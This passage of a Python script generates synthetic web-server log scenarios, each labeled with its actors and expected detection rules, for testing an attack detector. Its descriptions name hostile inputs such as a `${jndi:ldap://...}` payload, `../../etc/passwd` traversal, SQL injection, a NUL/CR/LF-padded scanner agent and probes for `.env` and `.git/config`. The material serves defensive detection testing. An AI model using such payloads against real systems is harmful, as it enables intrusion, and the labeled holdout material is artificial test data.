    sqlmap(L, rng, t0 + 5200, pool.hosting(), a4, n=40, ua="\\x00\\x00sqlmap/1.7.2#stable\\x0D\\x0A", raw=True)
    background(L, shop, pool, rng, t0, dur, 4.0, 800)
    return L, ("Two afternoon hours with four scanners, each from its own hosting address: (1) 300 probes for `.env`, "
               "`.git/config`, `wp-login.php`, backups, `phpinfo.php`, `actuator/env` ... in one minute with an ordinary "
               "Chrome agent, mostly 404 (some 403/301); (2) `sqlmap/1.7.2#stable` injecting into the product search and "
               "id (70 requests); (3) Nuclei (90 requests); (4) sqlmap whose agent is padded with NUL/CR/LF bytes, "
               "logged by nginx as `\\x00` escapes (40 requests). Malicious.")


@scenario("tuning", "ghost-routes")
def s_ghost(rng):
    t0, dur = T(13, 9), 3 * 3600
    L = Log(t0)
    pool = IPPool(rng)
    shop = Shop(rng, t0, dur)
    a1 = L.actor("swagger", True, "fetches /swagger.json twice (not part of the API, but answered 200)",
                 ["unknown-endpoint"], [r"^/swagger\.json$"])
    a2 = L.actor("legacy-v0", True, "36 calls over ~2.5 h to the retired /v0/users/{id} API, answered 200",
                 ["unknown-endpoint"], [r"^/v0/users/"])
    a3 = L.actor("delete-customer", True, "DELETE /api/v1/customers/{id} 8 times (method not in the spec), 204",
                 ["unknown-endpoint"], [r"^DELETE /api/v1/customers/"])
    ghost_routes(L, rng, t0, a1, a2, a3, pool)
    background(L, shop, pool, rng, t0, dur, 3.0, 900)
    return L, ("Three hours. Three rarely-hit routes the spec does not document are answered 200: `/swagger.json` "
               "(fetched twice by one visitor), the retired `/v0/users/{id}` (a python-requests script calls it 36 "
               "times over ~2.5 hours with random ids) and `DELETE /api/v1/customers/{id}` (8 calls from Postman, "
               "204). Each is labeled as its own actor with a path regex. Malicious/suspicious: shadow API use.")


@scenario("tuning", "token-in-url")
def s_token(rng):
    t0, dur = T(14, 7), 8 * 3600
    L = Log(t0)
    pool = IPPool(rng)
    shop = Shop(rng, t0, dur)
    a = L.actor("reset-token-leak", True, "front-end bug puts ?token= on GET /api/v1/auth/password-reset (200 users)",
                ["exposed-credential"], [r"^/api/v1/auth/password-reset$"])
    a.label_users = False
    token_in_url(L, pool, rng, t0, dur, a, 200)
    background(L, shop, pool, rng, t0, dur, 2.0, 1300)
    return L, ("A full day. The password-reset e-mail links to `/reset-password#t=...` (fragment, never logged), but "
               "a front-end bug then calls `GET /api/v1/auth/password-reset?token=<43 chars>` instead of sending the "
               "token in a header. 200 different users reset their password over the day (some reload; 10% of tokens "
               "are expired, 410). Expected: one exposed-credential finding for the route and parameter, not 200. "
               "The IPs of these 200 users are listed for the actor.")


@scenario("tuning", "basic-spray-and-wp-enum")
def s_spray(rng):
    t0, dur = T(15, 16), 90 * 60
    L = Log(t0)
    pool = IPPool(rng)
    shop = Shop(rng, t0, dur)
    a1 = L.actor("basic-spray", True, "40 distinct Basic-auth user names, one 401 each, over 30 minutes",
                 ["auth-failure-cluster", "sensitive-action-rate"])
    basic_spray(L, rng, t0 + 600, pool.hosting(), a1)
    a2 = L.actor("wp-author-enum", True, "/?author=1..8 then /wp-json/wp/v2/users", ["unknown-endpoint",
                                                                                    "id-enumeration"])
    wp_author(L, rng, t0 + 3000, pool.hosting(), a2)
    background(L, shop, pool, rng, t0, dur, 5.0, 700)
    return L, ("Ninety minutes. (1) A python-requests client sprays the back-office Basic-auth gateway: 40 different "
               "user names (admin, root, support, guessed staff names ...), one attempt each on "
               "`GET /api/v1/backoffice/customers`, all 401, over 30 minutes. (2) A WordPress author enumeration: "
               "`/?author=1` .. `/?author=8` (the SPA answers every page 200) then `/wp-json/wp/v2/users` (404). "
               "Malicious.")


@scenario("holdout", "support-agent-shift")
def s_support(rng):
    t0, dur = T(16, 8), 8 * 3600
    L = Log(t0)
    pool = IPPool(rng)
    shop = Shop(rng, t0, dur)
    a = L.actor("support-agent", False, "one support agent's shift: tickets, customer records, orders (spread ids)")
    support_agent(L, shop, pool, rng, t0, dur, a, pool.take("217.110.43.2"), "s.okafor")
    a2 = L.actor("support-agent-2", False, "a second agent working from home on IPv6")
    support_agent(L, shop, pool, rng, t0 + 3600, dur - 3600, a2, pool.v6(), "m.lindqvist")
    background(L, shop, pool, rng, t0, dur, 2.0, 1300)
    return L, ("A full day. Two customer-support agents (Basic-auth users `s.okafor` from the office, `m.lindqvist` "
               "from home over IPv6) work through the ticket queue: open a ticket, look up the customer record in the "
               "back office, sometimes search, look at 0-3 orders. A few hundred record views each, ids spread all "
               "over, all 200. Nothing here is an attack.")


@scenario("holdout", "crawlers-and-monitors")
def s_crawl(rng):
    t0, dur = T(17, 2), 4 * 3600
    L = Log(t0)
    pool = IPPool(rng)
    shop = Shop(rng, t0, dur)
    ms = [L.actor(n, False, d) for n, d in [("uptimerobot", "UptimeRobot /health every 10 s from 3 addresses"),
                                            ("pingdom", "Pingdom /health every minute"),
                                            ("datadog", "Datadog synthetics every 30 s (health, search, home)")]]
    monitors(L, pool, rng, t0, dur, ms)
    b = L.actor("bingbot", False, "Bingbot deep crawl of product pages (many ids, some 404) and rendering API calls")
    deep_crawl(L, shop, pool, rng, t0, dur, b, "bing", 0.25)
    lc = L.actor("link-checker", False, "W3C link checker HEADs the site's links, a few dead ones (404)")
    link_checker(L, shop, pool, rng, t0 + 3600, lc)
    background(L, shop, pool, rng, t0, dur, 6.0, 900)
    return L, ("Four night hours. Uptime monitors (UptimeRobot every 10 s, Pingdom every minute, Datadog synthetics "
               "every 30 s), a Bingbot deep crawl of product pages (sitemap order, several per second at times, removed "
               "products 404) plus renderer API calls, and a W3C link checker that HEADs every link of ~18 pages (some "
               "old blog/press links are 404). Nothing here is an attack.")


@scenario("holdout", "holiday-peak-mixed-benign")
def s_peak(rng):
    t0, dur = T(18, 17), 3 * 3600
    L = Log(t0)
    pool = IPPool(rng)
    shop = Shop(rng, t0, dur, 4.0)
    a = L.actor("partner-okhttp", False, "partner sync (okhttp, Basic user partner-globex) during the peak")
    partner_sync(L, shop, pool, rng, t0, dur, a, ua="okhttp/4.12.0", user="partner-globex",
                 ip=pool.take("2a05:d014:9f2:4a00:61c3:1b2e:8d47:a0f1"), gap=(300, 600))
    e = L.actor("exporter-cursor", False, "accounting export with ?cursor= paging through /api/v1/orders")
    export_job(L, pool, rng, t0 + 600, e, pages=300, cursor=True, ua="python-requests/2.32.3",
               user="svc-accounting", ip="10.20.7.31")
    am = L.actor("merchant-upload", False, "merchant uploads 120 images")
    ac = L.actor("image-resizer", False, "image resizer (imgproxy) pulls 3 widths of each new image")
    media_batch(L, pool, rng, t0 + 2400, am, ac, n=120, cdn="imgproxy")
    for k in range(4):
        s = L.actor(f"resync-{k + 1}", False, "app back online: 401s, refresh, own records")
        offline_sync(L, shop, pool, rng, t0 + 1000 + k * 2000, s, kind=rng.choice(["android", "ios"]),
                     n_orders=rng.randint(20, 65))
    # carrier-grade NAT: one IPv4 shared by ~120 app users (USER is "-": bearer tokens)
    cg = pool.take("80.187.111.43")
    c = L.actor("carrier-nat", False, "mobile carrier CGNAT address shared by ~120 app users")
    users = [User(rng, pool, kind=rng.choice(["ios", "android"]), ip=cg) for _ in range(120)]
    tt = t0
    while True:
        tt += rng.expovariate(1 / 70)
        if tt > t0 + dur:
            break
        u = rng.choice(users)
        n0 = len(L.rows)
        app_session(L, shop, u, tt)
        for r in L.rows[n0:]:
            c.note(cg, "-")
    background(L, shop, pool, rng, t0, dur, 5.0, 2500)
    return L, ("Three evening hours of a holiday-season peak (3-4x normal traffic). Several benign heavy hitters at "
               "once: a partner sync with `okhttp` over IPv6 (user `partner-globex`); an accounting export paging "
               "with an opaque `?cursor=`; a merchant image upload followed by an image resizer (`imgproxy`) fetching "
               "three widths of each new consecutive media id; four app users re-syncing after being offline; and "
               "one mobile-carrier CGNAT address shared by ~120 app users (all USER `-`). Nothing here is an attack.")


@scenario("holdout", "shuffled-address-harvest")
def s_shuf(rng):
    t0, dur = T(19, 11), 3600
    L = Log(t0)
    pool = IPPool(rng)
    shop = Shop(rng, t0, dur)
    a = L.actor("shuffled-harvester", True, "~1000 shuffled ids over a 5000-id space in 6 minutes, many 404",
                ["id-enumeration"])
    shuffled_harvest(L, rng, t0 + 1700, pool.hosting(), a)
    background(L, shop, pool, rng, t0, dur, 6.0, 700)
    return L, ("One hour. At about 11:28 one client requests `GET /api/v1/customers/{id}/addresses` ~1000 times in "
               "six minutes, ids drawn at random without repetition from 20000-24999; ~45% are 404. Malicious: "
               "record harvesting that avoids sequential order.")


@scenario("holdout", "distributed-credential-stuffing")
def s_dstuff(rng):
    t0, dur = T(20, 20), 3600
    L = Log(t0)
    pool = IPPool(rng)
    shop = Shop(rng, t0, dur)
    a = L.actor("stuffing-botnet", True, "200 residential-proxy addresses, 1-3 logins each in 20 minutes, ~95% 401",
                ["auth-failure-cluster", "sensitive-action-rate"])
    distributed_stuffing(L, pool, rng, t0 + 1200, a)
    background(L, shop, pool, rng, t0, dur, 7.0, 900)
    return L, ("One busy evening hour. Within 20 minutes 200 different addresses (residential proxies, IPv4 and IPv6, "
               "each with its own browser user agent) each post 1-3 logins to `/api/v1/auth/login`; about 95% fail "
               "(401). Malicious: distributed credential stuffing.")


@scenario("holdout", "distributed-backup-sweep")
def s_sweep(rng):
    t0, dur = T(21, 3), 90 * 60
    L = Log(t0)
    pool = IPPool(rng)
    shop = Shop(rng, t0, dur)
    a = L.actor("backup-sweep", True, "350 addresses in ~50 /24s HEAD backup archive names, empty agent",
                ["unknown-endpoint", "suspicious-user-agent"])
    backup_sweep(L, pool, rng, t0 + 900, a)
    background(L, shop, pool, rng, t0, dur, 9.0, 600)
    return L, ("Ninety night minutes. Within ~55 minutes 350 addresses spread over 50 hosting /24 networks each send "
               "1-3 `HEAD` requests for backup archive names (`/site.tar.gz`, `/backup.sql`, `/www.zip`, ...) with an "
               "empty user agent (`\"-\"`); all 404. Malicious: distributed sensitive-file sweep.")


@scenario("holdout", "reset-otp-abuse-and-injection")
def s_reset(rng):
    t0, dur = T(22, 12), 2 * 3600
    L = Log(t0)
    pool = IPPool(rng)
    shop = Shop(rng, t0, dur)
    a1 = L.actor("reset-flood", True, "60 password-reset requests in 10 minutes for different e-mails (202)",
                 ["sensitive-action-rate"])
    reset_abuse(L, rng, t0 + 1300, pool.hosting(), a1)
    a2 = L.actor("otp-bruteforce", True, "100 OTP verifications in ~8 minutes, 401s, a 429 every 25, last one 200",
                 ["sensitive-action-rate", "auth-failure-cluster"])
    otp_bruteforce(L, rng, t0 + 3500, pool.v6(mobile=False), a2)
    a3 = L.actor("injection", True, "8 requests with SQLi, ${jndi:...} and ../../etc/passwd in the URL",
                 ["unknown-endpoint"])
    injection(L, rng, t0 + 5400, pool.hosting(), a3)
    background(L, shop, pool, rng, t0, dur, 4.0, 800)
    return L, ("Two midday hours with three attackers: (1) a client triggers 60 password-reset e-mails in ten minutes "
               "(`POST /api/v1/auth/password-reset`, always 202 by design); (2) an IPv6 client brute-forces the "
               "second factor: 100 `POST /api/v1/auth/otp/verify` in ~8 minutes, 401 with a 429 every 25 attempts, the "
               "last one succeeds; (3) a Firefox user tries eight injection payloads in query strings (SQL, "
               "`${jndi:ldap://...}`, `../../etc/passwd`). Malicious.")


@scenario("tuning", "odd-case-scanner-agents")
def s_odd(rng):
    t0, dur = T(23, 15), 90 * 60
    L = Log(t0)
    pool = IPPool(rng)
    shop = Shop(rng, t0, dur)
    a1 = L.actor("sqlmap-oddcase", True, "agent 'SQLMap/1.7' (odd case) injecting into the search",
                 ["suspicious-user-agent", "unknown-endpoint"])
    sqlmap(L, rng, t0 + 900, pool.hosting(), a1, n=50, ua="SQLMap/1.7")
    a2 = L.actor("nikto", True, "Nikto 2.5.0 with per-test agent suffix", ["suspicious-user-agent", "unknown-endpoint"])
    nikto(L, rng, t0 + 2700, pool.v6(), a2, n=60)
    background(L, shop, pool, rng, t0, dur, 4.0, 700)
    return L, ("Ninety minutes. (1) A client whose agent is `SQLMap/1.7` (odd case) sends 50 injection attempts to the "
               "product search and product ids; (2) Nikto 2.5.0 from an IPv6 address (agent ends in a per-test "
               "`(Test:NNNNNN)` suffix) probes 60 well-known paths, all 404. Malicious.")


# --------------------------------------------------------------------------------------------------


def write(set_, name, fn):
    rng = random.Random(zlib.crc32(name.encode()))
    L, readme = fn(rng)
    lines = L.lines()
    d = os.path.join(HERE, set_, name)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, "input.log"), "w", encoding="utf-8", newline="\n") as f:
        f.write("\n".join(lines) + "\n")
    labels = {"scenario": name, "set": set_, "lines": len(lines),
              "actors": [a.to_json() for a in L.actors] +
                        [{"id": "background", "malicious": False, "behaviour": "ordinary users, apps, health checks, "
                          "a Googlebot trickle: every address not listed above", "expected_rules": [],
                          "ips": "*other*", "users": [], "paths": [], "requests": len(lines) - sum(a.requests for a in L.actors)}]}
    with open(os.path.join(d, "labels.json"), "w") as f:
        json.dump(labels, f, indent=1)
        f.write("\n")
    first = lines[0].split("[", 1)[1].split("]", 1)[0]
    last = lines[-1].split("[", 1)[1].split("]", 1)[0]
    with open(os.path.join(d, "README.md"), "w") as f:
        f.write(f"# {name} ({set_})\n\n{readme}\n\n")
        f.write(f"- lines: {len(lines)}, from {first} to {last}\n")
        for a in L.actors:
            f.write(f"- `{a.id}` ({'malicious' if a.malicious else 'benign'}): {a.behaviour}; {a.requests} requests "
                    f"from {len(a.ips)} address(es)" + (f"; expected: {', '.join(a.expected_rules)}" if a.expected_rules
                                                        else "; should raise nothing") + "\n")
        f.write("- everything else is background (ordinary visitors and app users, load-balancer health checks, a "
                "Googlebot trickle) and should raise nothing.\n")
    return len(lines)


def main():
    only = set(sys.argv[1:])
    total = 0
    for set_, name, fn in SCENARIOS:
        if only and name not in only:
            continue
        n = write(set_, name, fn)
        total += n
        print(f"{set_:8} {name:36} {n:7d} lines")
    print(f"total {total} lines")


if __name__ == "__main__":
    main()
